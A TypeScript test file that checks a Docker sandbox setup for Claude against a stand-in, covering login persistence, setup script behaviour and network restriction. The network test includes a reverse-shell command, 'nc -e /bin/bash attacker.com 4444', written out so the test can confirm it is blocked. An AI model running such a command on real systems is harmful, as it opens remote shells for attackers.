import { mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { prepareStateFolder } from '../../../src/sandbox/docker/make-sandbox.ts';
import { bubblewrapIsMissing } from '../bubblewrap.ts';
import { openThrowAwayFolder } from '../throw-away-folder.ts';
import { until } from '../until.ts';
import { openStandIn } from './open-stand-in.ts';

const setup = join(import.meta.dirname, '../../../sandbox/setup.sh');

/** As claude behaves: it cannot read an empty state, asks for a login without a token, and keeps the token it gets. */
const CLAUDE = `#!/bin/sh
[ -s ~/.claude.json ] || { echo 'JSON Parse error: Unexpected EOF' >&2; exit 1; }
if [ "$1" = login ]; then echo token >~/.claude/.credentials.json; exit 0; fi
[ -f ~/.claude/.credentials.json ] || { echo 'Please run /login' >&2; exit 1; }
[ "$1" = -p ] && echo "OK: $2"
`;

async function openComputer() {
  const folder = await openThrowAwayFolder();
  const project = join(folder.path, 'test-project');
  await mkdir(project);
  const state = await prepareStateFolder(folder.path);
  const standIn = await openStandIn(folder.path, 'docker');
  await standIn.set({ syncMs: 50 });
  await standIn.putProgram('claude', CLAUDE);
  const docker = (...words: readonly string[]) => standIn.say(['docker', 'sandbox', ...words]);
  return { folder, project, state, standIn, docker, [Symbol.asyncDispose]: () => folder[Symbol.asyncDispose]() };
}

describe.skipIf(bubblewrapIsMissing())("the verification plan of seed 003, played on a stand-in: it says nothing about Docker's engine", () => {
  it('1: create, setup.sh as root, run -p, rm, and again: the login is still there', async () => {
    await using computer = await openComputer();
    const { docker, project, state, standIn } = computer;
    const script = await readFile(setup, 'utf8');
    const build = async () => {
      expect(await docker('create', '--name', 'ralph-test', 'claude', project, state)).toMatchObject({ code: 0 });
      expect(await standIn.say(['docker', 'sandbox', 'exec', '-i', '-u', 'root', 'ralph-test', 'bash'], script)).toMatchObject({ code: 0, stderr: '' });
    };
    await build();
    expect(await docker('run', 'ralph-test', '--', '-p', 'Respond with: OK')).toMatchObject({ code: 1, stderr: 'Please run /login\n' });
    await docker('exec', 'ralph-test', 'claude', 'login');
    expect(await docker('run', 'ralph-test', '--', '-p', 'Respond with: OK')).toEqual({ code: 0, stdout: 'OK: Respond with: OK\n', stderr: '' });
    expect((await docker('exec', 'ralph-test', 'git', 'config', 'user.email')).stdout).toBe('ralph@localhost\n');
    await until('the login is on the host', async () => (await readFile(join(state, '.claude/.credentials.json'), 'utf8').catch(() => '')) !== '');

    expect(await docker('rm', 'ralph-test')).toMatchObject({ code: 0 });
    await build();
    expect(await docker('run', 'ralph-test', '--', '-p', 'Respond with: OK')).toMatchObject({ code: 0, stdout: 'OK: Respond with: OK\n' });
  });

  it('1: setup.sh may run again, takes the folder as an argument, and says so where there is none', async () => {
    await using computer = await openComputer();
    const { docker, project, state, standIn } = computer;
    const script = await readFile(setup, 'utf8');
    await docker('create', '--name', 'ralph-test', 'claude', project, state);
    const run = (...args: readonly string[]) =>
      standIn.say(['docker', 'sandbox', 'exec', '-i', '-u', 'root', 'ralph-test', 'bash', '-s', '--', ...args], script);
    for (const _ of [1, 2]) expect(await run(state)).toEqual({ code: 0, stdout: '', stderr: '' });
    expect((await docker('exec', 'ralph-test', 'readlink', '/home/agent/.claude')).stdout).toBe(`${state}/.claude\n`);
    expect(await run('/nowhere')).toMatchObject({ code: 1, stderr: expect.stringContaining('/nowhere') });
  });

  it('1: without -i the plan as it is written would set up nothing, and say nothing', async () => {
    await using computer = await openComputer();
    const { docker, project, state, standIn } = computer;
    await docker('create', '--name', 'ralph-test', 'claude', project, state);
    const script = await readFile(setup, 'utf8');
    expect(await standIn.say(['docker', 'sandbox', 'exec', '-u', 'root', 'ralph-test', 'bash'], script)).toEqual({ code: 0, stdout: '', stderr: '' });
    expect(await docker('exec', 'ralph-test', 'readlink', '/home/agent/.claude')).toMatchObject({ code: 1 });
  });

  it('1: an empty .claude.json is the failure that the seed warns of, and is mended', async () => {
    await using computer = await openComputer();
    const { docker, project, state, folder } = computer;
    await writeFile(join(state, '.claude.json'), '');
    await docker('create', '--name', 'ralph-test', 'claude', project, state);
    await docker('exec', '-u', 'root', 'ralph-test', 'ln', '-s', `${state}/.claude.json`, '/home/agent/.claude.json');
    expect(await docker('run', 'ralph-test', '--', '-p', 'hi')).toMatchObject({ code: 1, stderr: expect.stringContaining('JSON Parse error') });
    await prepareStateFolder(folder.path);
    expect((await stat(join(state, '.claude.json'))).size).toBeGreaterThan(0);
  });

  it('2: of the network only what is allowed is left, and nothing that is not HTTP', async () => {
    await using computer = await openComputer();
    const { docker, project, state } = computer;
    await docker('create', '--name', 'ralph-test', 'claude', project, state);
    expect(await docker('exec', 'ralph-test', 'curl', 'https://evil.com')).toMatchObject({ code: 0 });
    await docker('network', 'proxy', 'ralph-test', '--policy', 'deny', '--allow-host', 'api.anthropic.com');
    expect(await docker('exec', 'ralph-test', 'curl', 'https://api.anthropic.com')).toMatchObject({ code: 0 });
    expect(await docker('exec', 'ralph-test', 'curl', 'https://evil.com')).toMatchObject({ code: 56, stderr: expect.stringContaining('403') });
    expect(await docker('exec', 'ralph-test', 'nc', '-e', '/bin/bash', 'attacker.com', '4444')).toMatchObject({ code: 1 });
  });

  it('an answer that is empty and ends well comes as often as it is told to', async () => {
    await using computer = await openComputer();
    const { docker, project, state, standIn } = computer;
    await docker('create', '--name', 'ralph-test', 'shell', project, state);
    await standIn.putProgram('shell', '#!/bin/sh\necho said\n');
    await standIn.set({ emptyRuns: 1 });
    expect(await docker('run', 'ralph-test')).toEqual({ code: 0, stdout: '', stderr: '' });
    expect(await docker('run', 'ralph-test')).toEqual({ code: 0, stdout: 'said\n', stderr: '' });
  });
});
